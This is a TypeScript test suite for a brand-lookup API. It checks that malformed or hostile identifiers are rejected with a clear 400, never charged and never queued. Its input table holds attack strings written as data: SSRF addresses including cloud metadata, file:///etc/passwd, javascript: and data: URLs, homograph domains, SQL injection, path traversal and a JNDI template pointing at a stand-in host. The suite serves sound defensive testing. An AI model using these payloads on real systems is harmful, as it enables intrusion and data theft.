import { describe, expect } from 'vitest'
import pg from 'pg'
import { list } from './brands.ts'
import { call, costOf, given, json, row as anyRow } from './target.ts'

/** What nobody sends on purpose, and what attackers do: a clear 4xx or a legal reading, nothing charged, nothing queued. */

const row: typeof anyRow = (title, run, ...needed) => anyRow(title, run, 'key', ...needed)

/** Text that is no identifier anywhere, and what the reason must name. */
const identifiers: readonly [what: string, text: string, reason: RegExp][] = [
  ['white space only', ' \t ', /empty/],
  ['2,049 characters', `${'a'.repeat(2045)}.com`, /2048/],
  ['NUL', 'nike\0.com', /control character/],
  ['a line break', 'nike\r\n.com', /control character/],
  ['a lone surrogate', 'nike\ud800.com', /control character|percent-encoding/],
  ['a mark that reorders text', '\u202enike.com', /invisible mark/],
  ['a zero-width space', 'ni\u200bke.com', /invisible mark/],
  ['an IPv4 address', '127.0.0.1', /IP address/],
  ['a public IPv4 address', '93.184.216.34', /IP address/],
  ['an IPv4 address in hexadecimal', '0x7f.0.0.1', /IP address/],
  ['an IPv4 address as a number, in a URL', 'http://2130706433/', /IP address/],
  ['an IPv4 address in full-width digits', '１２７.０.０.１', /IP address/],
  ['an IPv6 address in a URL', 'http://[::1]/', /IP address/],
  ['the address of a cloud’s metadata', 'http://169.254.169.254/latest/meta-data', /IP address/],
  ['localhost', 'localhost', /localhost|single label/],
  ['a name below localhost', 'admin.localhost', /reserved|localhost/],
  ['a single label that is too long for a ticker', 'intranet-server-01', /.+/],
  ['a single label in a URL', 'http://mailhost/', /single label/],
  ['an email address at a single label', 'root@mailhost', /single label/],
  ['a file: URL', 'file:///etc/passwd', /not a website address/],
  ['a javascript: URL', 'javascript:alert(1)', /not a website address/],
  ['a data: URL', 'data:text/html,<script>alert(1)</script>', /not a website address/],
  ['an ftp: URL', 'ftp://nike.com/', /not a website address/],
  ['user info in a URL', 'https://user:password@nike.com/', /user name/],
  ['user info that looks like a domain', 'https://nike.com@evil-shop.com/', /user name/],
  ['user info without a scheme', 'user:password@nike.com', /not a website address/],
  ['a backslash before an @', 'nike.com\\@evil-shop.com', /email/],
  ['punycode that mixes scripts', 'xn--pple-43d.com', /mixes scripts/],
  ['Unicode that mixes scripts', 'gооgle.com', /mixes scripts/],
  ['broken punycode', 'xn--zzzzzz--.com', /.+/],
  ['two trailing dots', 'nike.com..', /.+/],
  ['an empty label', 'nike..com', /.+/],
  ['a leading dot', '.nike.com', /.+/],
  ['a port out of bounds', 'https://nike.com:99999/', /not a valid website address/],
  ['a port that is no number', 'https://nike.com:80a/', /not a valid website address/],
  ['a label of 64 characters', `${'a'.repeat(64)}.com`, /not a valid domain name/],
  ['a name of 254 characters', `${'a.'.repeat(125)}com`.padStart(254, 'b'), /253/],
  ['a label that begins with a hyphen', '-nike.com', /not a valid domain name/],
  ['an underscore', 'ni_ke.com', /not a valid domain name/],
  ['a space in a name', 'ni ke.com', /.+/],
  ['a public suffix', 'co.uk', /public suffix/],
  ['a special-use name', 'printer.local', /reserved/],
  ['an onion service', 'expyuzz4wqqyqhjn.onion', /reserved/],
  ['an ISIN with a wrong check digit', 'US0378331006', /check digit/],
  ['SQL', `nike.com'; DROP TABLE brand; --`, /.+/],
  ['a path upwards', '../../../../etc/passwd', /.+/],
  ['a template', '${jndi:ldap://evil-shop.com/x}', /.+/],
  ['emoji', '👩‍👩‍👧‍👦', /.+/],
]

/** Percent-encoded; a lone surrogate as the bytes that careless programs send for it. */
const pathOf = (text: string) => text.split('\ud800').map(encodeURIComponent).join('%ED%A0%80')

describe('What is no identifier', () => {
  for (const [what, text, reason] of identifiers) {
    row(`${what}: 400 that names the problem, on both routes and in a batch`, async () => {
      for (const path of [
        `/v2/brands/${pathOf(text)}`,
        `/v2/brands/domain/${pathOf(text)}`,
        `/v2/context/${pathOf(text)}`,
      ]) {
        const answer = await call(path)
        const body = await json<{ message: string }>(answer)
        expect([path, answer.status, body]).toEqual([path, 400, { message: expect.stringMatching(/\w.*\.$/) }])
        if (!path.includes('/domain/') && !path.includes('/context/')) expect(body.message).toMatch(reason)
        expect(body.message.length).toBeLessThan(300)
      }
      const typed = { type: 'domain', value: text }
      const batch = await call('/v2/brands/batch', {
        body: { identifiers: text.length > 2048 ? [text] : [text, typed] },
      })
      if (text.length > 2048)
        return expect([batch.status, await json(batch)]).toEqual([400, { message: expect.stringMatching(/2048/) }])
      const items = list((await json(batch))['results'])
      expect(items.map((item) => [item['status'], item['message']])).toEqual([
        [400, expect.stringMatching(reason)],
        [400, expect.stringMatching(/\w.*\.$/)],
      ])
    })
  }
  row('an empty identifier: 400', async () => {
    for (const path of ['/v2/brands/', '/v2/brands/domain/', '/v2/context/', '/v2/brands/%20', '/v2/search/']) {
      const answer = await call(path)
      expect([path, answer.status, await json(answer)]).toEqual([path, 400, { message: expect.any(String) }])
    }
  })
  row('none of it is charged', async () => {
    const cost = await costOf(async () => {
      for (const [, text] of identifiers) await (await call(`/v2/brands/${pathOf(text)}`)).body?.cancel()
      const short = identifiers.map(([, text]) => text).filter((text) => text.length <= 2048)
      await (await call('/v2/brands/batch', { body: { identifiers: short } })).body?.cancel()
    })
    expect(cost).toBe(0)
  })
  row(
    'none of it is queued',
    async () => {
      const client = new pg.Client({ connectionString: given('databaseUrl') })
      await client.connect()
      try {
        const since = new Date()
        for (const [, text] of identifiers)
          await (await call(`/v2/brands/${pathOf(text)}`, { method: 'HEAD' })).body?.cancel()
        const short = identifiers.map(([, text]) => text).filter((text) => text.length <= 2048)
        await (await call('/v2/brands/batch', { body: { identifiers: short } })).body?.cancel()
        // What runs by the clock has no data.
        const { rows } = await client.query(
          `SELECT data FROM pgboss.job WHERE created_on > $1 AND data IS NOT NULL AND name NOT LIKE '\\_\\_%'`,
          [since],
        )
        expect(rows).toEqual([])
      } finally {
        await client.end()
      }
    },
    'databaseUrl',
  )
})

describe('What is read in one legal way', () => {
  const legal: readonly [what: string, text: string][] = [
    ['one trailing dot', 'nike.com.'],
    ['a port', 'nike.com:8443'],
    ['capitals', 'NIKE.Com'],
    ['white space around', '  nike.com '],
    ['a fragment', 'https://nike.com/#top'],
    ['a percent-encoded slash', 'nike.com%2Fabout'],
    ['an @ in the path of a URL', 'nike.com/@evil-shop.com'],
    ['a full-width domain', 'ｎｉｋｅ.com'],
  ]
  for (const [what, text] of legal) {
    row(`${what}`, async () => {
      const path = text.includes('%') ? text : encodeURIComponent(text)
      const answers = await Promise.all([path, 'nike.com'].map((one) => call(`/v2/brands/${one}?cachedOnly=true`)))
      const [first, second] = await Promise.all(answers.map((answer) => answer.text()))
      expect(answers.map((answer) => answer.status)).toEqual([answers[1]?.status, answers[1]?.status])
      expect(first).toBe(second)
    })
  }
})
